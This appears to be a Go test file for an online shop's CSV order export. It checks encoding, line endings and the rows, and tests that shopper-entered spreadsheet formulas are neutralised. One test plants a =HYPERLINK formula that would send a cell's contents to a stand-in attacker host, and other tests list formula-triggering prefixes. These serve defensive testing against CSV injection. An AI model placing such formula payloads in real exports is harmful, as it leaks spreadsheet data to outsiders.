package main

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// readCSV reads what a spreadsheet would, without the byte order mark.
func readCSV(t *testing.T, text string) [][]string {
	t.Helper()
	body, marked := strings.CutPrefix(text, "\ufeff")
	if !marked {
		t.Error("there is no byte order mark: a spreadsheet would not know UTF-8")
	}
	if strings.Count(body, "\n") != strings.Count(body, "\r\n") {
		t.Error("not every line ends with CR LF")
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestTheExportHasOneRowALineAndAmountsThatAddUp(t *testing.T) {
	c := openCounter(t)
	order := c.place(asha, cash, 1, "NIA-30", "NIA-60")
	erased := c.place(asha, whatsApp, 2, "SUN")
	if err := c.store.Erase(t.Context(), erased.Ref); err != nil {
		t.Fatal(err)
	}
	ref, gone := string(order.Ref), string(erased.Ref)
	want := [][]string{
		exportHeader,
		{gone, "2026-03-01 19:30", "awaiting", "whatsapp", "SUN", "Sunscreen", "", "2", "1499.00", "", "2998.00", "2998.00", "0.00", "2998.00", "INR",
			"", "", "", "", "", "", "", "", "2026-03-01 19:30"},
		{ref, "2026-03-01 18:30", "placed", "cod", "NIA-30", "Niacinamide Serum", "30 ml", "1", "599.00", "649.00", "599.00", "1598.50", "0.00", "1598.50", "INR",
			"Asha Rao", "9800000000", "asha@example.com", "12, Lake Road\nNear the temple", "Pune", "Maharashtra", "411001", "Please ring twice.", ""},
		{ref, "2026-03-01 18:30", "placed", "cod", "NIA-60", "Niacinamide Serum", "60 ml", "1", "999.50", "", "999.50", "", "", "", "INR",
			"Asha Rao", "9800000000", "asha@example.com", "12, Lake Road\nNear the temple", "Pune", "Maharashtra", "411001", "Please ring twice.", ""},
	}
	if diff := cmp.Diff(want, readCSV(t, c.does("orders", "export"))); diff != "" {
		t.Errorf("the rows are not as expected (-want +got):\n%s", diff)
	}
	if rows := readCSV(t, c.does("orders", "export", "--state", "placed")); len(rows) != 3 {
		t.Errorf("of one order %d rows", len(rows))
	}
}

func TestAFormulaOfAShopperReachesTheSpreadsheetAsText(t *testing.T) {
	c := openCounter(t)
	evil := asha
	evil.Name, evil.Note = `=HYPERLINK("https://evil.example/"&A1,"Asha")`, "+91 98000\n\"quoted\""
	c.place(evil, cash, 1, "SUN")
	row := readCSV(t, c.does("orders", "export"))[1]
	if row[15] != "'"+evil.Name || row[22] != "'"+evil.Note {
		t.Errorf("the cells are %q and %q", row[15], row[22])
	}
}

func TestAnExportWithoutOrdersHasItsHeader(t *testing.T) {
	if rows := readCSV(t, openCounter(t).does("orders", "export")); len(rows) != 1 {
		t.Errorf("%d rows", len(rows))
	}
}

func TestHarmlessCellsStayAsTheyAre(t *testing.T) {
	for cell, want := range map[string]string{
		"":             "",
		"Asha":         "Asha",
		"a=b":          "a=b",
		"12-14":        "12-14",
		"9800000000":   "9800000000",
		"'quoted'":     "'quoted'",
		"निशा":         "निशा",
		"=1+1":         "'=1+1",
		"+91":          "'+91",
		"-1":           "'-1",
		"@SUM(A1)":     "'@SUM(A1)",
		"\tx":          "'\tx",
		"\rx":          "'\rx",
		"\nx":          "'\nx",
		"  =1":         "'  =1",
		"\u00a0\x00=1": "'\u00a0\x00=1",
		"\ufeff=1":     "'\ufeff=1",
		"＝1":           "'＝1",
	} {
		if got := harmless(cell); got != want {
			t.Errorf("harmless(%q) = %q, want %q", cell, got, want)
		}
	}
}

// FuzzHarmless: whatever was typed comes out of the CSV in one cell, as it was but for the apostrophe, and
// never as a formula.
func FuzzHarmless(f *testing.F) {
	for _, seed := range []string{"", "Asha", "=1+1", " \t=1", "a\",\"=1", "a\n=1", "\ufeff+1", "＠x", "\xff=1"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, cell string) {
		var b bytes.Buffer
		out := csv.NewWriter(&b)
		out.UseCRLF = true
		if err := out.Write([]string{"before", harmless(cell), "after"}); err != nil {
			t.Fatal(err)
		}
		out.Flush()
		row, err := csv.NewReader(&b).Read()
		if err != nil || len(row) != 3 || row[0] != "before" || row[2] != "after" {
			t.Fatalf("%q became %q, %v", cell, row, err)
		}
		if want := strings.ReplaceAll(harmless(cell), "\r", ""); row[1] != want { // CR LF ends every line
			t.Errorf("%q became %q, want %q", cell, row[1], want)
		}
		if got := strings.TrimPrefix(harmless(cell), "'"); got != strings.TrimPrefix(cell, "'") {
			t.Errorf("%q became %q", cell, got)
		}
		if first := strings.TrimSpace(row[1]); first != "" && strings.Contains("=+-@", first[:1]) || row[1] != "" && strings.Contains("\t\n", row[1][:1]) {
			t.Errorf("%q is a formula still: %q", cell, row[1])
		}
	})
}
